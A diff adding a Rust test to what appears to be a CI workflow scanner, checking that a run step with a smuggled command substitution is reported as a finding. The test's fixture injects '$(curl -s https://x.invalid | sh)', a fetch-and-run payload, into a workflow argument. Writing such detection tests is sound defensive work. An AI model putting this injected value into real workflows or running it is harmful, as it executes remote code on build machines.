@@ -538,3 +538,21 @@ fn a_workflow_file_of_50_mb_is_refused_unparsed() {
         run.all()
     );
 }
+
+#[test]
+fn a_run_step_that_runs_more_than_its_command_is_a_finding() {
+    let github = copy_of_github();
+    let ci = github.read("workflows/ci.yml").replacen(
+        "run: cargo xtask coverage\n",
+        "run: cargo xtask coverage --base \"$(curl -s https://x.invalid | sh)\"\n",
+        1,
+    );
+    github.write("workflows/ci.yml", &ci);
+    let run = rules_only(&github);
+    assert_eq!(run.code, 1, "{}", run.all());
+    assert!(
+        run.stdout.contains("holds `$(` (command substitution)"),
+        "{}",
+        run.all()
+    );
+}
